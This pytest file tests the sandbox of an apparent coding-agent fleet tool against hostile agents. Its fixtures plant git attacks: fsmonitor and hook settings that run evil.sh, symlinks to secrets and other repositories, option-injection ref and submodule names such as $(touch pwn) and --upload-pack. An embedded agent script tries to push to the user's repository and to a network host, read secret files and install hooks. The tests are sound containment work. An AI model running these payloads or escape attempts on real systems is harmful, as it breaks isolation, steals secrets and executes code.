"""Clones that agents prepared: nothing in them runs, leads elsewhere, or stays for the next."""

import asyncio
import json
import os
import subprocess
from functools import partial

import pytest

from leadhand.core.policy import Policy
from leadhand.fleet.agents.template import TemplateCoder
from leadhand.fleet.context import AttemptLimits
from leadhand.fleet.gate.gate import GateRules
from leadhand.fleet.repository.hub import ref_of
from leadhand.fleet.service import Fleet, FleetConfig
from leadhand.workers.sandbox.sandbox import choose
from tests.fleet.places import commit_all, every_byte, make_repo, run_git, write

SECRET = "SECRET-of-the-user"
ODD_REFS = ("-option", "--upload-pack=x", "a..b", "x\ny", "$(touch pwn)", "@{0}", "a.lock", "HEAD")


def git_file(slot, place):
    """`.git` is a file that names the user's."""
    subprocess.run(["rm", "-rf", slot / ".git"], check=True)
    (slot / ".git").write_text(f"gitdir: {place / 'user/.git'}\n")


def configuration(slot, place):
    """Settings by ways that are not `.git/config` itself."""
    git, evil = slot / ".git", f"[core]\n\tfsmonitor = {place / 'evil.sh'}\n\thooksPath = {place}\n"
    with (git / "config").open("a") as file:
        file.write("[extensions]\n\tworktreeConfig = true\n")
        for condition in ("gitdir:/", "onbranch:*", "hasconfig:remote.*.url:*"):
            file.write(f'[includeIf "{condition}"]\n\tpath = {place / "included"}\n')
    (git / "config.worktree").write_text(evil)
    (place / "included").write_text(evil)
    (git / "commondir").write_text(f"{place / 'user/.git'}\n")


def spellings(slot, place):
    """What some file systems take for `.git`."""
    evil = f"[core]\n\tfsmonitor = {place / 'evil.sh'}\n\tworktree = /\n"
    for name in (".GIT", "src/.Git", "git~1", "src/.git ", ".g\u200cit", "src/deeper/.git"):
        write(slot, {f"{name}/config": evil, f"{name}/HEAD": "ref: refs/heads/main\n"})
        write(slot, {f"{name}/objects/x": "", f"{name}/refs/x": "", f"{name}/hooks/update": "x"})


def links(slot, place):
    """Links to a secret and to the user's objects, in places that git reads."""
    git = slot / ".git"
    subprocess.run(["rm", "-rf", git / "objects", git / "HEAD"], check=True)
    (git / "objects").symlink_to(place / "user/.git/objects")
    (git / "refs/heads/lent").symlink_to(place / "secret")
    for name in ("HEAD", "ORIG_HEAD", "packed-refs"):
        (git / name).symlink_to(place / "secret")


def lent_history(slot, place):
    """`.git/refs` and `.git/objects` are the user's other repository: by a link at the top of both,
    by links further down, and by names that are the agent's own and objects that are not."""
    git, theirs = slot / ".git", place / "private/.git"
    sha = (theirs / "refs/heads/main").read_text()
    (git / "refs/heads/mine").write_text(sha)
    (git / "packed-refs").write_text(f"{sha.strip()} refs/heads/packed\n")
    subprocess.run(["rm", "-rf", git / "objects", git / "refs/tags"], check=True)
    (git / "refs/tags").symlink_to(theirs / "refs/heads")
    (git / "objects").symlink_to(theirs / "objects")


def lent_names(slot, place):
    """The same by `.git/refs`, with objects further down."""
    git, theirs = slot / ".git", place / "private/.git"
    subprocess.run(["rm", "-rf", git / "refs"], check=True)
    (git / "refs").symlink_to(theirs / "refs")
    for folder in (theirs / "objects").iterdir():
        if not (git / "objects" / folder.name).exists():
            (git / "objects" / folder.name).symlink_to(folder)
    (git / "objects/info/alternates").write_text(f"{theirs / 'objects'}\n")
    (git / "HEAD").write_text((theirs / "refs/heads/main").read_text())


def lent_whole(slot, place):
    """Both at once."""
    git, theirs = slot / ".git", place / "private/.git"
    subprocess.run(["rm", "-rf", git / "refs", git / "objects"], check=True)
    (git / "refs").symlink_to(theirs / "refs")
    (git / "objects").symlink_to(theirs / "objects")


def rules(slot, place):
    """Rules that are links, and a submodule whose address is an option."""
    for name in (".gitattributes", ".gitignore", ".mailmap"):
        (slot / name).symlink_to(place / "secret")
    evil = place / "evil.sh"
    text = f'[submodule "../../x"]\n\tpath = -x\n\turl = --upload-pack={evil}\n\tupdate = !{evil}\n'
    write(slot, {".gitmodules": text})


def refs(slot, place):
    """Names of branches that are options, patterns and commands; pipes; far too many."""
    git, sha = slot / ".git", commit_all(slot, "Mine")
    for name in ODD_REFS:
        (git / "refs/heads" / name).write_text(f"{sha}\n")
    for number in range(500):
        (git / f"refs/heads/r{number}").write_text(f"{sha}\n")
    raw = sha.encode()
    (git / "packed-refs").write_bytes(raw + b" refs/heads/--exec=x\n" + raw + b" refs/x/\xff\n")
    os.mkfifo(git / "refs/heads/pipe")
    (git / "objects/aa").mkdir(exist_ok=True)
    os.mkfifo(git / "objects/aa" / ("b" * 38))
    with (git / "objects/pack/pack-x.pack").open("wb") as file:
        file.truncate(1 << 40)


def depths(slot, place):
    """Folders so deep that no path reaches them."""
    here = os.open(slot, os.O_RDONLY)
    for _ in range(60):
        os.mkdir("d" * 100, dir_fd=here)
        inner = os.open("d" * 100, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(os.open("file", os.O_WRONLY | os.O_CREAT, dir_fd=here))
    os.fchmod(here, 0)
    os.close(here)


PLANTS = (
    git_file,
    configuration,
    spellings,
    links,
    lent_history,
    lent_names,
    lent_whole,
    rules,
    refs,
    depths,
)


@pytest.mark.parametrize("plant", PLANTS)
async def test_what_was_planted_is_data(tmp_path, user, slots, plant):
    (tmp_path / "evil.sh").write_text(f"#!/bin/sh\necho ran >> {tmp_path / 'ran'}\n")
    (tmp_path / "evil.sh").chmod(0o755)
    (tmp_path / "secret").write_text(SECRET)
    private = make_repo(tmp_path / "private", {"secret.txt": SECRET})
    before, hub = every_byte(user), slots.hub
    async with slots.lease(hub.main()) as slot:
        write(slot.path, {"a.txt": "mine\n"})
        plant(slot.path, tmp_path)
        taken = await slot.take()
        saved = await slot.save(ref_of("wip", "run", "task", 1))
        merged = await hub.merge(hub.main(), taken.head, slot.base)
        landed = await hub.commit(merged.tree, (hub.main(),), "Landed")
        assert await hub.advance(landed, hub.main())
    assert taken.changed["a.txt"] == "M"
    assert (plant in (depths, spellings)) == bool(taken.left_out), "what is left out is named"
    held = run_git(hub.git.folder, "log", "-p", "--format=%B", saved, landed)
    assert SECRET not in held
    asked = run_git(hub.git.folder, "cat-file", "--batch-check", stdin=private.encode())
    assert asked.endswith(" missing"), "and nothing of another repository is in the hub"
    assert not [name for name in taken.changed if ".git/" in name.lower()]
    async with slots.lease(landed) as slot:
        assert (await slot.take()).changed == {}, "the next one gets a clean slot"
    await hub.publish("results")
    after = every_byte(user)
    changed = {name for name in before | after if before.get(name) != after.get(name)}
    assert all(name.startswith((b".git/objects", b".git/refs", b".git/logs")) for name in changed)
    assert not (tmp_path / "ran").exists()


async def test_what_is_salvaged_is_not_searched_for_likeness(slots):
    """Objects can be made to keep such a search busy for minutes; and they are the agent's."""
    hub, text = slots.hub, "".join(f"line {number}\n" for number in range(500))
    async with slots.lease(hub.main()) as slot:
        run_git(slot.path, "checkout", "-q", "-b", "aside")
        write(slot.path, {f"{number}.txt": f"{text}{number}\n" for number in range(20)})
        sha = commit_all(slot.path, "Aside")
        run_git(slot.path, "checkout", "-q", "main")
        write(slot.path, {"a.txt": "mine\n"})
        assert (await slot.take()).elsewhere["refs/heads/aside"] == sha
    packs = sorted((hub.git.folder / "objects/pack").glob("*.idx"), key=lambda p: p.stat().st_mtime)
    told = run_git(hub.git.folder, "verify-pack", "-s", str(packs[-1]))
    assert "non delta: 22 objects" in told
    assert "chain length" not in told


AGENT = """
import json, os, pathlib, subprocess, sys
plan = json.loads(pathlib.Path(sys.argv[1]).read_text())
evil = pathlib.Path("evil.sh")
evil.write_text("#!/bin/sh\\necho ran >> " + plan["marker"] + "\\n")
evil.chmod(0o755)
here = os.getcwd()
def git(*words):
    return subprocess.run(["git", *words], capture_output=True, text=True).returncode
found = {}
subprocess.run(["git", "add", "-A"]); subprocess.run(["git", "commit", "-qm", "mine"])
assert git("log", "-1", "--grep=mine") == 0, "git itself works here"
for name in ("hub", "user"):
    found["push to the " + name] = git("push", "-f", plan[name], "HEAD:refs/heads/main")
    found["push to the address of the " + name] = git("push", "file://" + plan[name], "HEAD:x")
    theirs = ("--git-dir", plan[name])
    found["move main of the " + name] = git(*theirs, "update-ref", "refs/heads/main", plan["tip"])
    found["configure the " + name] = git(*theirs, "config", "core.fsmonitor", here + "/evil.sh")
found["push to the network"] = git("push", "https://192.0.2.1/x.git", "HEAD")
for name in ("secret", "other", "key"):
    try:
        found["read the " + name] = 0 if pathlib.Path(plan[name]).read_text() else 1
    except OSError:
        found["read the " + name] = 1
for name in ("post-checkout", "pre-commit", "reference-transaction", "post-index-change"):
    hook = pathlib.Path(".git/hooks"); hook.mkdir(exist_ok=True)
    (hook / name).write_text("#!/bin/sh\\n" + here + "/evil.sh\\n"); (hook / name).chmod(0o755)
for key in ("core.fsmonitor", "core.sshCommand", "filter.x.clean", "filter.x.smudge",
            "diff.external", "alias.status", "core.pager", "core.hooksPath"):
    value = here + "/evil.sh"
    git("config", key, "!" + value if key.startswith("alias") else value)
pathlib.Path(".git/info").mkdir(exist_ok=True)
pathlib.Path(".git/info/attributes").write_text("* filter=x diff=x merge=x\\n")
if plan["openly"]:
    pathlib.Path(".gitattributes").write_text("* filter=x diff=x merge=x\\n")
    pathlib.Path("link").symlink_to(plan["secret"])
pathlib.Path("--upload-pack=evil").write_text("x")
pathlib.Path("found.json").write_text(json.dumps(found))
"""
GATE = "import json; found = json.load(open('found.json')); assert all(found.values()), found"


@pytest.mark.parametrize("openly", [False, True])
async def test_a_hostile_agent_lands_its_files_and_nothing_else(
    tmp_path, user, kind, bwrap, monkeypatch, openly
):
    """It can neither push nor read what is not its own, and its traps are never sprung.

    `openly`: traps are also among its files. Then not even those land.
    """
    monkeypatch.setattr("leadhand.fleet.service.choose", partial(choose, bwrap=bwrap))
    fleet_folder = tmp_path / "fleet"
    plan = {
        "openly": openly,
        "marker": str(tmp_path / "ran"),
        "hub": str(fleet_folder / "hub" / "hub.git"),
        "user": str(user / ".git"),
        "tip": run_git(user, "rev-parse", "main"),
        "secret": str(tmp_path / "secret"),
        "key": str(fleet_folder / "fleet.db"),
        "other": str(fleet_folder / "slots" / "slot-1" / "a.txt"),
    }
    write(tmp_path, {"secret": SECRET, "plan.json": json.dumps(plan), "agent.py": AGENT})
    before = every_byte(user)
    command = ["/usr/bin/env", "python3", str(tmp_path / "agent.py"), str(tmp_path / "plan.json")]
    config = FleetConfig(
        repo=user,
        folder=fleet_folder,
        gate=GateRules(commands=(("true",),)),
        publish="leadhand/main",
        agents=2,
        sandbox=kind,
        limits=AttemptLimits(time_s=60, silence_s=60),
        policy=Policy(backoff_s=0.01, jitter=0.0),
    )

    def coders(processes):
        shown = (tmp_path / "agent.py", tmp_path / "plan.json")
        made = TemplateCoder(
            "hostile", command, processes=processes, homes=tmp_path / "homes", readable=shown
        )
        return [("coder", made, "x")]

    epic = tmp_path / "bad.md"
    task = {"id": "bad", "goal": "do what must not be done", "writes": ["**"]}
    head = json.dumps({"tasks": [{**task, "acceptance": [["python3", "-c", GATE]]}]})
    epic.write_text(f"# Bad\n\nMischief.\n\n```yaml\n{head}\n```\n")
    async with Fleet(config, coders) as fleet:
        fleet.submit(epic)
        async with asyncio.timeout(100):
            await fleet.idle()
        run = next(iter(fleet._runs.values()))
        asked = [question.text for question in run.state.questions.values()]
        if openly:
            assert run.state.ended is None
            assert ".gitattributes:1: a filter that runs a program" in asked[0]
            assert "link: a link that leaves the repository" in asked[0]
        else:
            assert run.state.ended is not None, asked
            assert run.state.ended.status == "succeeded"
    assert not (tmp_path / "ran").exists(), "something that it planted was run"
    if openly:
        for place in (user, plan["hub"]):
            heads = run_git(place, "for-each-ref", "--format=%(objectname)", "refs/heads")
            assert {*heads.split()} == {plan["tip"]}, "a branch moved"
    else:
        held = json.loads(run_git(user, "show", "leadhand/main:found.json"))
        assert len(held) == 12
        assert 0 not in held.values()
        assert SECRET not in run_git(user, "log", "-p", "main..leadhand/main")
    assert SECRET not in run_git(plan["hub"], "log", "-p", "--all"), "nor in what is kept"
    after = every_byte(user)
    changed = {name for name in before | after if before.get(name) != after.get(name)}
    assert all(name.startswith((b".git/objects", b".git/refs", b".git/logs")) for name in changed)
    assert run_git(user, "rev-parse", "main") == run_git(user, "rev-parse", "HEAD")
